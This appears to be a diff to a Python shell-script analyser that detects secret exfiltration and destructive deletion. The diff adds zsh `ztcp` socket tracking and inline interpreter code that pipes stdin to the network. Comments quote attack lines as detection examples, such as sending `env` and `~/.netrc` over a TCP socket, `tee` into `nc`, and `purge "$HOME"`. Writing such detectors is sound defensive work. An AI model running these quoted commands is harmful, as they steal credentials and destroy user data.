@@ -143,6 +143,8 @@ class _Reader:
         self._seen: dict[tuple[Any, Any], Any] | None = None
         self.env: dict[str, str] = {"HOME": "~", "IFS": " "}  # `${IFS}` stands for a space
         self.taint: dict[str, Source] = {}
+        #: where a connection the script opened goes (zsh's `ztcp HOST PORT`)
+        self.socket = ""
         self.downloads: dict[str, tuple[str, int]] = {}  # path -> (url, line)
         #: variables holding what a download printed (`X=$(curl -fsSL URL)`) -> (url, line)
         self.fetched: dict[str, tuple[str, int]] = {}
@@ -205,6 +207,8 @@ class _Reader:
         if any(self.word(c) is None for c in cmds[0].named_children if c.type != "command_name"):
             return None
         words = self.argv(cmds[0])[0]
+        if len(words) == 2 and words[0] == "dirname" and words[1].strip("/") not in ("", "~"):
+            return words[1].rstrip("/").rsplit("/", 1)[0] or "/"  # `$(dirname "$cache")`: its folder
         if not words or words[0] not in ("printf", "echo"):
             return None
         args = [w for w in words[1:] if w is not None]
@@ -250,6 +254,8 @@ class _Reader:
             return self._printed(node)
         if t == "expansion" and (m := re.fullmatch(r"\$\{(\w+):?-([^${}`]*)\}", self.text(node))):
             return self.env.get(m.group(1), m.group(2))  # ${TMPDIR:-/tmp}: the default when unset
+        if t == "expansion" and (m := re.fullmatch(r"\$\{(\w+):?-\$\{?HOME\}?([^${}`]*)\}", self.text(node))):
+            return self.env.get(m.group(1), "~" + m.group(2))  # ${XDG_CACHE_HOME:-$HOME/.cache}
         if t == "expansion" and (m := _SLICE.fullmatch(self.text(node))):
             return _sliced(self.env.get(m[1]), m[2], m[3])  # ${ABC:2:1}: a piece of a known value
         if t == "expansion" and (m := _TRIM.fullmatch(self.text(node))):
@@ -635,8 +641,10 @@ class _Reader:
                 # `… | tee >(nc host 9001) > copy`: tee copies its input into the command too
                 self.flow("secret-network", "critical", line, f"reads {src[0]} and sends it to {into}", src)
                 src = None
-            elif src and run and (_sends(run) or _dns(run) or _base(run[0]) == "ssh"):
-                dest = _dest(run) or "the network"
+            elif (
+                src and run and (_sends(run) or _dns(run) or _base(run[0]) == "ssh" or _code_sends_stdin(run))
+            ):
+                dest = _code_sends_stdin(run) or _dest(run) or "the network"
                 how = "in DNS lookups of" if _dns(run) else "to"
                 sev, said = "critical", f"reads {src[0]} and sends it {how} {dest}"
                 if _base(run[0]) == "curl" and _config_from_stdin(run):
@@ -724,6 +732,27 @@ class _Reader:
                 return True
         return False
 
+    def printed_secret(self, n: Any, cmd: Any, words: list[str], line: int) -> Source | None:
+        """The secret a redirected statement prints: `echo "$ALL" | base64 > f`, `{ cat "$f"; } >> f`
+        (the redirect takes what the whole pipeline, list or group prints)."""
+        body = n.child_by_field_name("body")
+        if body is not None and body.type != "command":
+            # `for f in ~/.netrc .env; do cat "$f"; done > f`, also inside a group:
+            # the loops' variables hold what they name before their commands are read
+            stack, seen = [body], 0
+            for x in popped(stack):
+                if (seen := seen + 1) > 512:
+                    break
+                if x.type == "for_statement":
+                    self.loop(x)
+                stack.extend(x.named_children)
+            return self.pipeline_source(body)
+        if cmd is not None:
+            return self.reads_secret(words, line) or next(
+                (t for c in cmd.named_children[1:] if (t := self.taint_of(c)) is not None), None
+            )
+        return None
+
     def redirects(self, n: Any) -> None:
         for r in n.named_children:
             if r.type == "heredoc_redirect":
@@ -758,30 +787,25 @@ class _Reader:
                     self.downloads[path] = (url, line)  # curl URL > file
                 # `echo "$ALL" > s.json`, `env > e.txt`: the file now holds the secret, and a later
                 # `curl --data-binary @s.json` sends it
-                elif len(self.staged_paths) < 64 and path.strip("\"'") != "/dev/null":
-                    # `echo "$ALL" | base64 > f`, `{ cat "$f"; } >> f`: the redirect takes what the
-                    # whole pipeline, list or group prints
-                    body = n.child_by_field_name("body")
-                    if body is not None and body.type != "command":
-                        # `for f in ~/.netrc .env; do cat "$f"; done > f`, also inside a group:
-                        # the loops' variables hold what they name before their commands are read
-                        stack, seen = [body], 0
-                        for x in popped(stack):
-                            if (seen := seen + 1) > 512:
-                                break
-                            if x.type == "for_statement":
-                                self.loop(x)
-                            stack.extend(x.named_children)
-                        src = self.pipeline_source(body)
-                    elif cmd is not None:
-                        src = self.reads_secret(words, line) or next(
-                            (t for c in cmd.named_children[1:] if (t := self.taint_of(c)) is not None), None
-                        )
-                    else:
-                        src = None
-                    if src is not None:
-                        key = path.strip("\"'")
-                        self.staged_paths.setdefault(key, src._replace(how=f"writes it to {key}"))
+                elif (
+                    len(self.staged_paths) < 64
+                    and path.strip("\"'") != "/dev/null"
+                    and (src := self.printed_secret(n, cmd, words, line)) is not None
+                ):
+                    key = path.strip("\"'")
+                    self.staged_paths.setdefault(key, src._replace(how=f"writes it to {key}"))
+            elif op.startswith(">&") and self.socket and path.strip("\"'") not in ("1", "2", "-"):
+                # `ztcp HOST PORT; { env; cat ~/.netrc } >&$REPLY`: into the connection the script opened
+                cmd = next((x for x in n.named_children if x.type == "command"), None)
+                words = self.argv(cmd)[0] if cmd is not None else []
+                if (src := self.printed_secret(n, cmd, words, line)) is not None:
+                    self.flow(
+                        "secret-network",
+                        "critical",
+                        line,
+                        f"reads {src.what} and sends it to {self.socket}",
+                        src,
+                    )
             if op.startswith("<"):
                 cmd = next((x for x in n.named_children if x.type == "command"), None)
                 words = self.run_argv(cmd)
@@ -844,6 +868,8 @@ class _Reader:
             self.logins(re.sub(r"%s", lambda _: next(given, ""), _unescape(words[1]) or words[1]), line)
         if name in ("source", ".") and self.project is not None:
             self.sourced(words, line)
+        if name == "ztcp" and len(words) > 2 and not words[1].startswith("-"):
+            self.socket = f"{words[1]} port {words[2]}"  # zsh's TCP client: the connection's descriptor
         if words[0] in self.funcs:
             self.call(words[0], nodes, line)
         # strings handed to a shell again
@@ -1460,6 +1486,20 @@ class _Reader:
         src_bytes, body, tree, where = self.funcs[name]
         if self.depth >= MAX_DEPTH or self.calls_read >= MAX_CALLS_READ:
             return
+        given = {str(i): w for i, n in enumerate(nodes[1:9], 1) if (w := self.word(n)) is not None}
+        if any(DESTROY_TARGET.match(w.rstrip("/") or "/") for w in given.values()):
+            # `purge "$HOME"`: the body read with `$1` holding the folder, for what it deletes there
+            self.calls_read += 1
+            sub = _Reader(src_bytes, self.depth + 1, self.project, where or self.rel)
+            sub.env = {**self.env, **given}
+            sub.funcs = {k: v for k, v in self.funcs.items() if k != name}
+            sub.walk(body)
+            for fl in sub.facts.flows:
+                if fl.kind == "destruction":
+                    steps = ((line, f"passes it to {name}()", None), (fl.line, fl.text, where))
+                    self.facts.flows.append(
+                        Flow(fl.kind, fl.severity, line, f"{fl.text} (through {name}())", steps)
+                    )
         for i, n in enumerate(nodes[1:], 1):
             src = self.taint_of(n)
             if src is None or src.what.startswith(PARAM):
@@ -2027,6 +2067,31 @@ def _answered(words: list[str], src: Source) -> bool:
         and (named_for(src.what, dest) or bool(own_service(src.what, dest)))
         and not any(_ECHOES.fullmatch(w) for w in words[1:])
     )
+
+
+#: A program given on the command line that reads its standard input, and a network client in it
+_CODE_STDIN = re.compile(
+    r"process\.stdin|\bsys\.stdin|\bSTDIN\b|\$stdin\b|readFileSync\(\s*(?:0\b|['\"]/dev/stdin)|Deno\.stdin|Bun\.stdin|php://stdin"
+)
+_CODE_NET = re.compile(
+    r"""require\(\s*['"](?:node:)?(?:https?|net|tls|dgram|http2)['"]|\bfetch\s*\(|\burllib|\brequests\.|\bhttpx\b"""
+    r"""|\bhttp\.client|\bsocket\b|\bsmtplib\b|Net::(?:HTTP|SMTP)|IO::Socket|LWP::|HTTP::Tiny|\bcurl_exec\b|fsockopen"""
+)
+_CODE_HOST = re.compile(r"""\w+://[^\s"'`)]+|\bhost(?:name)?['"]?\s*[:=]>?\s*['"]([^'"]+)""")
+
+
+def _code_sends_stdin(words: list[str]) -> str | None:
+    """`... | node -e CODE` (`python3 -c`, `perl -e`, `ruby -e`, `php -r`) where CODE reads its
+    standard input and talks to the network: where it sends what it is fed."""
+    name = _base(words[0])
+    if not (name in ("perl", "ruby", "php", "bun", "deno") or name.startswith(("python", "node"))):
+        return None
+    at = next((i + 1 for i, w in enumerate(words[:-1]) if i and w in _CODE_FLAGS), None)
+    code = words[at] if at is not None else ""
+    if not (_CODE_STDIN.search(code) and _CODE_NET.search(code)):
+        return None
+    m = _CODE_HOST.search(code)
+    return (m.group(1) or m.group(0)) if m else "the network"
 
 
 def _sends(words: list[str]) -> bool:
